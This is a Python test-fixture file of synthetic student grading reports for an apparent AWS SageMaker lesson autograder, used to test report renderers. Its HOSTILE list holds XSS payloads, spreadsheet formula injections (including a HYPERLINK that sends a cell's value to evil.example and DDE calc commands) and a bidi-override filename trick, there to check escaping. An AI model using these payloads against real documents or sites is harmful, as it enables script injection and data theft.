"""Fixed report dicts for the renderer tests (no AWS: renderers only format finished reports).

`sample_report()` covers every status, empty and nested evidence, tables, long notebook output
and a synthetic flag; `error_report()` is a student who could not be graded; `hostile_report()`
puts attack strings in every student-controlled field.
"""

from __future__ import annotations

import copy

import pytest

from reports import load_renderers

load_renderers()

GENERATED = "2026-11-28T10:00:00Z"
RUBRIC = {"id": "sagemaker-13.2", "title": "Deploying ML Models with SageMaker (lesson 13.2)", "version": "1.0"}


def _item(id_, category, status, earned, possible, message, evidence=None, remediation=None, title=None):
    return {
        "id": id_,
        "title": title or id_.replace("-", " ").capitalize(),
        "category": category,
        "status": status,
        "points": {"earned": float(earned), "possible": float(possible)},
        "message": message,
        "evidence": evidence if evidence is not None else {},
        "remediation": remediation,
        "duration_ms": 12,
    }


def sample_items() -> list[dict]:
    return [
        _item("iam-admin-user", "IAM", "pass", 5, 5, "IAM user administrator exists.",
              {"user": "administrator", "arn": "arn:aws:iam::123456789012:user/administrator",
               "created": "2026-11-01T09:00:00Z"}, title="An IAM user named administrator exists"),
        _item("iam-admin-group-policy", "IAM", "partial", 2.5, 5,
              "administrator has AdministratorAccess (attached to the user), but it is not in a group named "
              "Administrators.",
              {"user": "administrator", "groups": {"Developers": []},
               "user_policies": ["arn:aws:iam::aws:policy/AdministratorAccess"],
               "admin_access_routes": ["attached to the user"]},
              "Lesson step 2: create the group Administrators with the AWS managed policy AdministratorAccess "
              "and add the administrator user to it.",
              title="The administrator is in the Administrators group, which has AdministratorAccess"),
        _item("iam-admin-console-access", "IAM", "pass", 4, 4, "administrator can sign in to the console.",
              {"user": "administrator", "login_profile": True, "password_reset_required": False}),
        _item("iam-admin-programmatic-access", "IAM", "warn", 4, 4,
              "administrator has 2 active access keys; one is enough.",
              {"user": "administrator", "keys": [
                  {"key": "****************ABCD", "status": "Active", "created": "2026-11-01T09:00:00Z"},
                  {"key": "****************WXYZ", "status": "Active", "created": "2026-11-02T09:00:00Z"}]},
              "Keep exactly one key active."),
        _item("iam-root-hygiene", "IAM", "pass", 2, 2, "The root user has no access keys and MFA is on.",
              {"AccountAccessKeysPresent": 0, "AccountMFAEnabled": 1}),
        _item("iam-billing-access", "IAM", "manual", 0, 0,
              "IAM access to billing information is not readable through any AWS API: a person decides.", {},
              "Ask your TA to look at the billing setting in the console."),
        _item("s3-private-bucket", "S3", "pass", 8, 8, "Bucket sm-models-ada is private.",
              {"bucket": "sm-models-ada", "region": "us-east-2", "identified_by": "notebook code (cell 3)",
               "block_public_access": {"bucket": {"BlockPublicAcls": True, "IgnorePublicAcls": True,
                                                  "BlockPublicPolicy": True, "RestrictPublicBuckets": True},
                                       "account": None}}),
        _item("s3-private-object", "S3", "pass", 5, 5, "sm-models-ada holds 3 objects, none public.",
              {"bucket": "sm-models-ada", "objects_checked": 3, "objects": [
                  "austin-rainfall-regression/train/linear_train.data",
                  "austin-rainfall-regression/test/linear_test.data",
                  "austin-rainfall-regression/output/model.tar.gz"]}),
        _item("s3-public-bucket", "S3", "pass", 8, 8, "public-share-ada allows public reads.",
              {"bucket": "public-share-ada", "region": "ca-central-1"}),
        _item("s3-public-object", "S3", "fail", 0, 9, "No object in public-share-ada is publicly readable.",
              {"bucket": "public-share-ada", "objects_checked": 1,
               "objects": [{"key": "Penguins.jpg", "acl_public": False, "policy_public": False,
                            "anonymous_get": {"status": 403, "url":
                                              "https://public-share-ada.s3.ca-central-1.amazonaws.com/Penguins.jpg"}}]},
              "Lesson step 4: make the uploaded object public (an object ACL granting Everyone read, or a bucket "
              "policy allowing s3:GetObject to *)."),
        _item("sagemaker-rainfall-training", "SageMaker", "pass", 5, 5,
              "Training job rainfall-ll-2026 completed with predictor_type regressor.",
              {"job": "rainfall-ll-2026", "region": "us-east-2", "image": "linear-learner",
               "hyperparameters": {"predictor_type": "regressor", "feature_dim": "1"}}),
        _item("sagemaker-rainfall-data", "SageMaker", "pass", 5, 5, "Training data decodes: 1 feature and a label.",
              {}),
        _item("sagemaker-credit-training", "SageMaker", "error", 0, 5,
              "Could not be determined: sagemaker:ListTrainingJobs in us-east-2: AccessDenied. A person must "
              "look at this item.",
              {"could_not_read": "sagemaker:ListTrainingJobs in us-east-2", "reason": "AccessDenied",
               "code": "AccessDeniedException"},
              "Not the student's fault as far as we know: check the grader's access and grade again."),
        _item("cleanup-endpoints", "Clean-up", "fail", 0, 8, "1 SageMaker endpoint still exists.",
              {"endpoints": [{"name": "linear-learner-2026-11-02", "region": "us-east-2", "status": "InService",
                              "instance_type": "ml.m4.xlarge", "created": "2026-11-02T10:00:00Z"}],
               "regions_scanned": ["us-east-1", "us-east-2", "us-west-2"],
               "regions_skipped": {"ap-east-1": "not enabled for this account"}},
              "Lesson step 10: delete the endpoint (SageMaker > Inference > Endpoints > Delete)."),
        _item("cleanup-endpoint-configs", "Clean-up", "pass", 5, 5, "No endpoint configuration exists.",
              {"endpoint_configs": []}),
        _item("cleanup-cost-leaks", "Clean-up", "pass", 2, 2, "Nothing is still running.", {}),
        _item("nb-rainfall-executed", "Notebooks", "pass", 3, 3, "rainfall_forecast.ipynb ran in order.",
              {"notebook": "rainfall_forecast.ipynb", "code_cells": 14, "executed": 14}),
        _item("nb-rainfall-metrics", "Notebooks", "partial", 1.5, 3, "Found an RMSE but no R² in the outputs.",
              {"rmse": {"value": 0.362, "cell": 12, "text": "RMSE: 0.3621\n"}, "r2": None,
               "training_log_tail": "2026-11-02 10:01:12 Starting - Starting the training job...\n"
                                    "2026-11-02 10:04:40 Completed - Training job completed\n" * 3},
              "Print the R² score of the test predictions (lesson step 7)."),
        _item("nb-credit-executed", "Notebooks", "skip", 0, 0, "Not graded: no notebooks were given (--notebooks).",
              {}),
        _item("nb-credit-accuracy", "Notebooks", "skip", 0, 0, "Not graded: no notebooks were given (--notebooks).",
              {}),
        _item("nb-credit-workflow", "Notebooks", "skip", 0, 0, "Not graded: no notebooks were given (--notebooks).",
              {}),
        _item("nb-evidence-link", "Notebooks", "skip", 0, 0, "Not graded: no notebooks were given (--notebooks).",
              {}),
    ]


def _score(items):
    earned = round(sum(i["points"]["earned"] for i in items), 2)
    possible = round(sum(i["points"]["possible"] for i in items), 2)
    return {"earned": earned, "possible": possible, "percent": round(100 * earned / possible, 1) if possible else 0.0}


def sample_report(**changes) -> dict:
    items = sample_items()
    report = {
        "schema": "grader.student-report/1",
        "student": {"id": "s01", "name": "Ada Lovelace", "email": "ada@example.edu", "account_id": "123456789012"},
        "rubric": dict(RUBRIC),
        "status": "fail",
        "score": _score(items),
        "items": items,
        "message": None,
        "stats": {"api_calls": 37, "duration_ms": 950},
        "generated_at": GENERATED,
        "grader_version": "0.1.0",
        "synthetic": True,
    }
    report.update(changes)
    return report


def error_report(**changes) -> dict:
    report = {
        "schema": "grader.student-report/1",
        "student": {"id": "s02", "name": "Grace Hopper", "email": None, "account_id": None},
        "rubric": dict(RUBRIC),
        "status": "error",
        "score": {"earned": 0.0, "possible": 100.0, "percent": 0.0},
        "items": [],
        "message": "credentials rejected: the role arn:aws:iam::210987654321:role/grader could not be assumed "
                   "(AccessDenied)",
        "stats": {"api_calls": 1, "duration_ms": 120},
        "generated_at": GENERATED,
        "grader_version": "0.1.0",
        "synthetic": False,
    }
    report.update(changes)
    return report


def passing_report(student_id="s03", name="Alan Turing", drop=0.0) -> dict:
    items = sample_items()
    for item in items:
        if item["status"] not in ("skip", "manual"):
            item["status"] = "pass"
            item["points"]["earned"] = item["points"]["possible"]
            item["remediation"] = None
    report = sample_report(student={"id": student_id, "name": name, "email": None, "account_id": "111122223333"},
                           status="pass", items=items, synthetic=False)
    report["score"] = _score(items)
    return report


# Attack strings: markup, attribute break-outs, spreadsheet formulas, CDATA end, every control
# character, bidi overrides, and a very long string.
SCRIPT = "<script>document.title='PWNED';document.body.setAttribute('data-pwned','1')</script>"
IMG = "\"><img src=x onerror=\"document.title='PWNED'\">"
HOSTILE = [
    SCRIPT,
    IMG,
    "'><svg onload=alert(1)>",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "]]><![CDATA[<x>",
    "".join(chr(c) for c in range(0x20)) + "\x7f",
    "evil\u202egnp.exe \u2066isolated\u2069 \u200bzero-width",
    "| a | b |\n# heading [link](javascript:alert(1)) ![img](http://x/y.png) **bold** `code` @team #1 $x$",
    "A" * 20000,
    "\ud800 lone surrogate",
]


def hostile_report(payload: str) -> dict:
    """A report with `payload` in every field a student (or their account, notebooks, roster) controls."""
    report = sample_report()
    report["student"] = {"id": payload, "name": payload, "email": payload, "account_id": payload}
    report["message"] = payload
    for item in report["items"]:
        item["message"] = f"Bucket {payload} was found."
        item["evidence"] = {
            "bucket": payload,
            payload: payload,
            "objects": [{"key": payload, "url": f"https://{payload}.s3.amazonaws.com/{payload}"}],
            "nested": {"endpoint": {"name": payload, "list": [payload, 1, None, True]}},
            "notebook_output": f"cell 3:\n{payload}\n",
        }
        if item["status"] != "pass":
            item["remediation"] = f"Delete {payload}."
    return report


@pytest.fixture
def report():
    return copy.deepcopy(sample_report())


@pytest.fixture
def broken_report():
    return copy.deepcopy(error_report())


def class_reports(n: int = 300, seed: int = 13) -> list[dict]:
    """`n` deterministic made-up student reports: a realistic spread, some errors, one of each status."""
    import random

    rng = random.Random(seed)
    weights = {"pass": 70, "warn": 6, "partial": 8, "fail": 12, "error": 2}
    reports = []
    for k in range(n):
        sid = f"s{k + 1:03d}"
        if k % 47 == 5:
            reports.append(error_report(student={"id": sid, "name": f"Student {k + 1}", "email": None,
                                                 "account_id": None}, synthetic=True))
            continue
        skill = rng.random()
        items = sample_items()
        for item in items:
            if item["status"] in ("manual",):
                continue
            if item["id"].startswith("nb-") and k % 9 == 0:
                item.update(status="skip", points={"earned": 0.0, "possible": 0.0}, remediation=None)
                continue
            possible = {"nb-credit-executed": 3, "nb-credit-accuracy": 6, "nb-credit-workflow": 5}.get(
                item["id"], item["points"]["possible"])
            hard = {"s3-public-object": 30, "cleanup-endpoints": 25, "nb-credit-accuracy": 20}.get(item["id"], 0)
            w = dict(weights, fail=weights["fail"] + hard + int(30 * (1 - skill)))
            status = rng.choices(list(w), weights=list(w.values()))[0]
            earned = {"pass": possible, "warn": possible, "partial": round(possible / 2, 2)}.get(status, 0.0)
            item.update(status=status, points={"earned": float(earned), "possible": float(possible)})
        report = sample_report(student={"id": sid, "name": f"Student {k + 1}", "email": f"{sid}@example.edu",
                                        "account_id": f"{100000000000 + k}"}, items=items)
        report["score"] = _score(items)
        report["status"] = "fail" if any(i["status"] in ("fail", "partial", "error") for i in items) else "pass"
        reports.append(report)
    return reports
